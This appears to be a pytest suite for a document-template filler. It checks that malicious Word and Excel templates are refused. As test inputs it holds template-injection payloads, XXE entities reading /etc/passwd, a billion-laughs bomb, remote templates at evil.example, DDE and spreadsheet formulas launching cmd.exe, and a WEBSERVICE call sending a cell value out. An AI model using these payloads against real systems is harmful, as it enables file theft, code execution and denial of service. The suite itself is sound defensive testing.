"""Templates that are wrong, or try more than being filled in: each is refused in words."""

from collections.abc import Callable

import pytest

from mori.campus.own_forms.desk import examples
from mori.core.errors import Refused
from mori.core.files.kinds import FileKind
from mori.core.filling.asking import fill
from mori.core.filling.hostile import Unfillable, require_harmless
from tests.campus.filling import docx, first_tag, part_of, with_part, xlsx

RELS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MORE, UNKNOWN, FOREIGN = "asks for more", "do not exist", "brings in something"


def refusal(content: bytes, kind: FileKind = FileKind.DOCX) -> str:
    with pytest.raises(Refused) as why:
        fill(content, kind, examples())
    return str(why.value)


SAID = {
    "{{ nilai_akir }}": f"{UNKNOWN}: nilai_akir",
    "{{ nama }} {{ nmaa }} {{ umur }}": f"{UNKNOWN}: nmaa, umur",
    "{% for m in minggu %}{{ m.hari }}{% endfor %}": f"{UNKNOWN}: m.hari",
    "{% for m in bulan %}{{ m.nomor }}{% endfor %}": f"{UNKNOWN}: bulan",
    "{{ minggu }}": f"{UNKNOWN}: minggu",
    "{{ self }}": f"{UNKNOWN}: self",
    "{{ nama": "not written right",
    "{% for m in minggu %}": "not written right",
    "{{ nama.__class__.__mro__ }}": MORE,
    "{% for m in minggu %}{{ m.__class__ }}{% endfor %}": MORE,
    "{{ nama['x'] }}": MORE,
    "{{ nama|attr('__class__') }}": MORE,
    "{{ nama.upper() }}": MORE,
    "{{ range(10**9) }}": MORE,
    "{% for i in range(10**9) %}x{% endfor %}": MORE,
    "{% for a in minggu %}{% for b in minggu %}{% for c in minggu %}x{% endfor %}{% endfor %}"
    "{% endfor %}": MORE,
    "{% for a in minggu recursive %}{{ loop(minggu) }}{% endfor %}": MORE,
    "{{ 'a' * 999999999 }}": MORE,
    "{{ 10**10**10 }}": MORE,
    "{% set x = 1 %}": MORE,
    "{% macro m() %}{{ m() }}{% endmacro %}": MORE,
    "{% include '/etc/passwd' %}": MORE,
    "{% import 'os' as os %}": MORE,
    "{% extends 'layout.html' %}": MORE,
    "{{ nama|safe }}": MORE,
    "{{r nama }}": MORE,
    "{{ nama ~ nama }}": MORE,
}


@pytest.mark.parametrize("text", SAID)
def test_what_a_template_says_too_much_is_refused(text):
    assert SAID[text] in refusal(docx(text))


def test_it_is_found_in_a_header_and_among_the_properties_too():
    from io import BytesIO

    from docx import Document

    document = Document()
    document.sections[0].header.paragraphs[0].text = "{{ nmaa }}"
    document.core_properties.title = "{{ range(9) }}"
    target = BytesIO()
    document.save(target)

    assert UNKNOWN in refusal(target.getvalue())
    document.sections[0].header.paragraphs[0].text = ""
    target = BytesIO()
    document.save(target)
    assert MORE in refusal(target.getvalue())


def linked(kind: str, target: str, mode: str = "External") -> bytes:
    link = f'<Relationship Id="x9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return _behind(RELS, link)


def _behind(part: str, text: str) -> bytes:
    document = docx("{{ nama }}")
    return with_part(document, part, text, first_tag(part_of(document, part)))


def field(instruction: str) -> bytes:
    """A field as Word writes it, its name cut in two."""
    first, rest = instruction[:3], instruction[3:]
    runs = (
        '<w:fldChar w:fldCharType="begin"/>',
        f"<w:instrText>{first}</w:instrText>",
        f"<w:instrText>{rest}</w:instrText>",
        '<w:fldChar w:fldCharType="end"/>',
    )
    text = "".join(f"<w:r>{run}</w:r>" for run in runs)
    return with_part(docx("{{ nama }}"), "word/document.xml", f"<w:p>{text}</w:p>", "<w:body>")


def declared(text: str) -> bytes:
    document = docx("{{ nama }}")
    body = part_of(document, "word/document.xml")
    root = first_tag(body)
    return with_part(document, "word/document.xml", body.replace(root, text + root, 1))


def in_other_signs() -> bytes:
    """As UTF-16, in which a search for <!DOCTYPE finds nothing."""
    document = docx("{{ nama }}")
    body = part_of(document, "word/document.xml").replace("UTF-8", "UTF-16")
    return with_part(document, "word/document.xml", body.encode("utf-16"))


LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
FILES: dict[str, Callable[[], bytes]] = {
    "a template elsewhere": lambda: linked("attachedTemplate", "https://evil.example/x.dotm"),
    "a template inside": lambda: linked("attachedTemplate", "x.dotm", "Internal"),
    "a picture elsewhere": lambda: linked("image", "https://evil.example/x.png"),
    "a picture on another machine": lambda: linked("image", "file://evil/share/x.png"),
    "an object elsewhere": lambda: linked("oleObject", "https://evil.example/x.rtf"),
    "a page in a frame": lambda: linked("frame", "https://evil.example"),
    "another document": lambda: linked("aFChunk", "x.html", "Internal"),
    "a link to a program": lambda: linked("hyperlink", "javascript:alert(1)"),
    "a link to a file": lambda: linked("hyperlink", "file:///etc/passwd"),
    "a field that fetches": lambda: field('INCLUDEPICTURE "https://evil.example/x.png"'),
    "a field that reads": lambda: field('INCLUDETEXT "/etc/passwd"'),
    "a field that runs": lambda: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "a field made of others": lambda: field('QUOTE 68 68 69 65 85 84 79 "x"'),
    "letters to a database": lambda: _behind(
        "word/settings.xml", '<w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge>'
    ),
    "an entity from a file": lambda: declared(
        '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "an entity from elsewhere": lambda: declared(
        '<!DOCTYPE w:document SYSTEM "https://evil.example/x.dtd">'
    ),
    "entities of entities": lambda: declared(LAUGHS),
    "an embedded object": lambda: with_part(docx("x"), "word/embeddings/oleObject1.bin", b"\xd0"),
    "a control": lambda: with_part(docx("x"), "word/activeX/activeX1.xml", "<a/>"),
    "an entity in a part of another name": lambda: with_part(
        docx("x"), "word/x.dat", LAUGHS + "<a/>"
    ),
}


@pytest.mark.parametrize("name", FILES)
def test_what_comes_from_elsewhere_or_runs_is_refused(name):
    assert FOREIGN in refusal(FILES[name]())


BOOKS: dict[str, Callable[[], bytes]] = {
    "a program": lambda: xlsx("=cmd|' /C calc'!A0"),
    "a page": lambda: xlsx('=WEBSERVICE("https://evil.example/"&A1)'),
    "another book": lambda: with_part(xlsx("x"), "xl/externalLinks/externalLink1.xml", "<a/>"),
    "a database": lambda: with_part(xlsx("x"), "xl/connections.xml", "<a/>"),
    "old macros": lambda: with_part(xlsx("x"), "xl/macrosheets/sheet1.xml", "<a/>"),
}


@pytest.mark.parametrize("name", BOOKS)
def test_a_book_that_asks_elsewhere_is_refused(name):
    assert FOREIGN in refusal(BOOKS[name](), FileKind.XLSX)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("{{ nilai_akir }}", f"{UNKNOWN}: nilai_akir"),
        ("{% for m in minggu %}", "Sheet!A1"),
        ("{{ nama.__class__ }}", "Sheet!A1"),
        ("{{ nama|upper }}", "Sheet!A1"),
        ("{{ minggu }}", UNKNOWN),
    ],
)
def test_cells_take_plain_placeholders_alone(text, said):
    assert said in refusal(xlsx(text), FileKind.XLSX)


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04 and then nothing",
        with_part(docx("x"), "word/document.xml", "<w:document"),
        with_part(docx("x"), "word/document.xml", "<a/>"),
        in_other_signs(),
    ],
    ids=["cut off", "broken inside", "of another shape", "in signs that hide words"],
)
def test_a_damaged_one_is_called_damaged(content):
    assert "damaged" in refusal(content)


def test_an_ordinary_document_with_links_and_page_numbers_is_taken():
    document = with_part(
        docx("{{ nama }}"),
        "word/document.xml",
        '<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/></w:p>',
        "<w:body>",
    )
    link = f'<Relationship Id="x9" Type="{OFFICE}/hyperlink" Target="https://kampus.example" '
    document = with_part(
        document,
        RELS,
        f'{link}TargetMode="External"/>',
        first_tag(part_of(document, RELS)),
    )

    assert fill(document, FileKind.DOCX, examples())


def test_one_that_computes_for_too_long_is_stopped(monkeypatch):
    """A text that regular expressions go through again and again, not a loop."""
    monkeypatch.setattr("mori.core.filling.asking.PATIENCE", 0.05)

    assert "too long" in refusal(docx("{{ nama }}"))


def test_nothing_is_followed_while_it_is_judged():
    with pytest.raises(Unfillable) as why:
        require_harmless(linked("attachedTemplate", "https://evil.example/x.dotm"))

    assert why.value.what == ["attachedTemplate"]
